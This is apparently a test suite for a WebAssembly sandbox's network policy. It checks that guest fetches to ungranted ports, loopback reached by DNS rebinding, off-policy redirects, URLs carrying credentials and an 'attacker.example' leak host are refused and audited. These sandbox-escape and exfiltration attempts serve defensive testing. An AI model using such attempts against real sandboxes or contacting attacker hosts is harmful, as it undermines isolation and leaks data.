import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type RunResult } from '../../../src/node/index.js';
import { accesses, runAudited } from '../../helpers/audited-run.js';
import { guest, lines } from '../../helpers/guests.js';
import { startLoopbackServers, type LoopbackServers } from '../../helpers/loopback-servers.js';

/*
 * wasi:http outgoing requests against a real server on loopback: the `js`
 * catalog tool's fetch() and netprobe's raw wasi:http calls. Each request's
 * host is resolved by the host, checked with the address it will use, and
 * sent to exactly that address; each redirect is a new request the guest
 * makes, checked anew.
 */

let servers: LoopbackServers;
beforeAll(async () => {
  servers = await startLoopbackServers();
});
afterAll(() => servers.close());

/** Fetches each URL in the `js` tool (following redirects itself), printing `status body` or `failed`. */
const fetchAll = `for (let url of args) {
  try {
    let response = await fetch(url, { method: url.includes('post') ? 'POST' : 'GET', body: url.includes('post') ? 'sent' : undefined });
    while (response.status === 302) response = await fetch(new URL(response.headers.get('location'), url));
    console.log(response.status, await response.text());
  } catch (error) {
    console.log('failed');
  }
}`;

const fetchInJs = (allow: string[], urls: string[]) =>
  runAudited({ network: { allow }, limits: { timeout: '20s' } }, { program: 'js', args: ['-e', fetchAll, ...urls] });

describe('fetch() in the js tool', () => {
  it('attack: a JS guest fetching from a port it was not granted; the granted one answers', async () => {
    const granted = `http://127.0.0.1:${servers.http}/items?page=2`;
    const other = `http://127.0.0.1:${servers.unused}/`;
    const { result, audit } = await fetchInJs([`127.0.0.1:${servers.http}`], [granted, other]);
    expect(result).toMatchObject({ status: 'exited', exitCode: 0 });
    expect(lines(result)).toEqual([`200 GET /items?page=2 host=127.0.0.1:${servers.http}`, 'failed']);
    expect(result.denials).toEqual([
      {
        operation: 'http-request',
        target: `127.0.0.1:${servers.unused}`,
        reason: 'network-denied',
        error: 'access-denied',
        detail: `no network.allow entry grants 127.0.0.1:${servers.unused}`,
      },
    ]);
    expect(accesses(audit)).toEqual([`allowed http-request 127.0.0.1:${servers.http}`, `denied http-request 127.0.0.1:${servers.unused}`]);
    expect(audit.find((event) => event.event === 'access.allowed')).toMatchObject({ grant: `127.0.0.1:${servers.http}` });
  });

  it('sends a request body and reads the response body', async () => {
    const { result } = await fetchInJs([`127.0.0.1:${servers.http}`], [`http://127.0.0.1:${servers.http}/post`]);
    expect(lines(result)).toEqual([`200 POST /post host=127.0.0.1:${servers.http} body=sent`]);
  });

  it('attack: a granted name resolving to loopback (DNS rebinding): localhost granted by name only', async () => {
    const { result } = await fetchInJs([`localhost:${servers.http}`], [`http://localhost:${servers.http}/`]);
    expect(lines(result)).toEqual(['failed']);
    expect(result.denials).toEqual([
      expect.objectContaining({
        operation: 'http-request',
        target: `localhost:${servers.http} (127.0.0.1)`,
        detail: expect.stringContaining('loopback'),
      }),
    ]);
    const granted = await fetchInJs([`localhost:${servers.http}`, `127.0.0.1:${servers.http}`], [`http://localhost:${servers.http}/`]);
    expect(lines(granted.result)).toEqual([`200 GET / host=localhost:${servers.http}`]);
  });

  it('attack: a JS guest fetching a host no grant names (no lookup happens for it)', async () => {
    const { result, audit } = await fetchInJs([`127.0.0.1:${servers.http}`], ['http://leak-secret.attacker.example/']);
    expect(lines(result)).toEqual(['failed']);
    expect(accesses(audit)).toEqual(['denied http-request http://leak-secret.attacker.example/']);
  });

  it('attack: a granted server redirecting the guest to a destination it was not granted (each hop is checked)', async () => {
    const away = encodeURIComponent(`http://127.0.0.1:${servers.unused}/`);
    const home = encodeURIComponent(`http://127.0.0.1:${servers.http}/target`);
    const { result, audit } = await fetchInJs(
      [`127.0.0.1:${servers.http}`],
      [`http://127.0.0.1:${servers.http}/redirect?to=${home}`, `http://127.0.0.1:${servers.http}/redirect?to=${away}`],
    );
    expect(lines(result)).toEqual([`200 GET /target host=127.0.0.1:${servers.http}`, 'failed']);
    expect(accesses(audit)).toEqual([
      `allowed http-request 127.0.0.1:${servers.http}`,
      `allowed http-request 127.0.0.1:${servers.http}`,
      `allowed http-request 127.0.0.1:${servers.http}`,
      `denied http-request 127.0.0.1:${servers.unused}`,
    ]);
  });
});

describe('every refused request is an access.denied event', () => {
  it('attack: a JS guest fetching a URL with user info (user:password@) from a granted host: refused and audited, the password recorded nowhere', async () => {
    const url = `http://user:hunter2@127.0.0.1:${servers.http}/`;
    const { result, audit } = await fetchInJs([`127.0.0.1:${servers.http}`], [url]);
    expect(lines(result)).toEqual(['failed']);
    expect(result.denials).toEqual([
      {
        operation: 'http-request',
        target: `http://127.0.0.1:${servers.http}/`,
        reason: 'network-denied',
        error: 'access-denied',
        detail: 'the URL carries user info (user:password@), which is never sent',
      },
    ]);
    expect(accesses(audit)).toEqual([`denied http-request http://127.0.0.1:${servers.http}/`]);
    expect(JSON.stringify([result.denials, audit.filter((event) => event.event.startsWith('access.'))])).not.toContain('hunter2');
  });

  it('attack: raw wasi:http with user info in the authority gets HTTP-request-denied, recorded', async () => {
    const { result, audit } = await runAudited(
      { network: { allow: [`127.0.0.1:${servers.http}`] }, limits: { timeout: '20s' } },
      { program: guest('netprobe.component.wasm'), args: ['get', 'http', `127.0.0.1:${servers.http}@127.0.0.1:${servers.unused}`, '/'] },
    );
    expect(lines(result)).toEqual(['http-fields: ok', 'http-request: ok', 'http-handle: HTTP-request-denied']);
    expect(accesses(audit)).toEqual([`denied http-request http://127.0.0.1:${servers.unused}/`]);
  });
});

describe('a fetch the script does not await', () => {
  it('keeps the js run alive until it settles, as in node', async () => {
    const code = `fetch('http://127.0.0.1:${servers.http}/late').then((response) => response.text()).then((text) => console.log('got', text))`;
    const { result } = await runAudited(
      { network: { allow: [`127.0.0.1:${servers.http}`] }, limits: { timeout: '20s' } },
      { program: 'js', args: ['-e', code] },
    );
    expect(result).toMatchObject({ status: 'exited', exitCode: 0 });
    expect(lines(result)).toEqual([`got GET /late host=127.0.0.1:${servers.http}`]);
  });

  it('and one that never settles holds the run until its deadline, which ends it', async () => {
    const code = `fetch('http://127.0.0.1:${servers.silent}/').then(() => console.log('answered'))`;
    const { result } = await runAudited(
      { network: { allow: [`127.0.0.1:${servers.silent}`] }, limits: { timeout: '1s' } },
      { program: 'js', args: ['-e', code] },
    );
    expect(result).toMatchObject({ status: 'timeout', exitCode: 124 });
    expect(result.stdout).toBe('');
  });
});

describe('raw wasi:http calls', () => {
  async function get(allow: string[], scheme: string, authority: string, path = '/'): Promise<RunResult> {
    const sandbox = createSandbox({ network: { allow }, limits: { timeout: '20s' } });
    return sandbox.exec({ program: guest('netprobe.component.wasm'), args: ['get', scheme, authority, path] }).result;
  }

  it('sends a GET to exactly the granted address and streams the response back', async () => {
    const result = await get([`127.0.0.1:${servers.http}`], 'http', `127.0.0.1:${servers.http}`, '/hello?x=1');
    expect(lines(result)).toEqual([
      'http-fields: ok',
      'http-request: ok',
      'http-handle: ok',
      'http-response: 200',
      `http-text: GET /hello?x=1 host=127.0.0.1:${servers.http}`,
    ]);
  });

  it('attack: a server whose certificate the host does not trust (HTTPS is verified, with the requested name as SNI)', async () => {
    const result = await get([`localhost:${servers.https}`, `127.0.0.1:${servers.https}`], 'https', `localhost:${servers.https}`);
    expect(lines(result)).toEqual(['http-fields: ok', 'http-request: ok', 'http-handle: ok', 'http-response: TLS-certificate-error']);
    expect((await servers.seen()).serverNames).toContain('localhost');
  });

  it('attack: a request denied by the policy gets HTTP-request-denied, and no connection is made', async () => {
    const result = await get([`127.0.0.1:${servers.http}`], 'http', `127.0.0.1:${servers.unused}`);
    expect(lines(result)).toEqual(['http-fields: ok', 'http-request: ok', 'http-handle: HTTP-request-denied']);
    expect(result.denials).toEqual([expect.objectContaining({ operation: 'http-request', target: `127.0.0.1:${servers.unused}` })]);
  });
});

describe("sockets and exchanges count against the run's descriptors (limits.files)", () => {
  it("attack: a guest holding requests open to a server that never answers stops at its budget, not the host's", async () => {
    const code = `let refused = 0;
const pending = [];
for (let i = 0; i < 6; i++) pending.push(fetch('http://127.0.0.1:${servers.silent}/').catch(() => { refused++; }));
setTimeout(() => { console.log('refused', refused); }, 300);`;
    const { result } = await runAudited(
      { network: { allow: [`127.0.0.1:${servers.silent}`] }, limits: { timeout: '2s', files: 4 } },
      { program: 'js', args: ['-e', code] },
    );
    expect(result.stdout).toBe('refused 2\n');
    expect(result.denials.filter((d) => d.reason === 'descriptor-limit')).toHaveLength(2);
  });

  it('an exchange that ended gives its descriptor back: more requests than the budget, one after another, all succeed', async () => {
    const code = `for (let i = 0; i < 10; i++) console.log((await fetch('http://127.0.0.1:${servers.http}/n' + i)).status);`;
    const { result } = await runAudited(
      { network: { allow: [`127.0.0.1:${servers.http}`] }, limits: { timeout: '20s', files: 3 } },
      { program: 'js', args: ['-e', code] },
    );
    expect(lines(result)).toEqual(Array(10).fill('200'));
  });
});
